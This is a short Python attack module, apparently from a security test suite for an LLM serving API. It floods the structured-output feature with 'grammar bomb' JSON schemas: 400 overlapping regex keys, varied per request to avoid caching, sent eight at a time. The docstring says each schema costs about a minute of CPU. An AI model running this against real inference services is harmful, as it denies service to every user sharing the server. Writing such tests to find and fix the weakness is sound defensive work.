"""A schema of 17 KB that takes a minute of CPU to compile."""

from typing import Any

from tests.attacks.target import AttackTarget
from tests.attacks.uploads import CHAT

FINDING = "8: grammar bombs block everybody's structured output"

PATTERNS = 400
AT_ONCE = 8


async def attack(target: AttackTarget) -> None:
    """Send several requests at once, each with a different schema, so that none is cached."""
    number = 0
    async with target.client() as client:

        async def bomb() -> None:
            nonlocal number
            number += 1
            body = {
                "messages": [{"role": "user", "content": "Hello"}],
                "guided_json": schema(number),
                "max_tokens": 4,
            }
            await target.post(client, CHAT, body)

        await target.repeat_concurrently(bomb, AT_ONCE)


def schema(number: int) -> dict[str, Any]:
    """Return the schema of an object whose keys' patterns overlap."""
    patterns = {f"^.*k{number}x{i}.*$": {"type": "integer"} for i in range(PATTERNS)}
    return {"type": "object", "patternProperties": patterns}
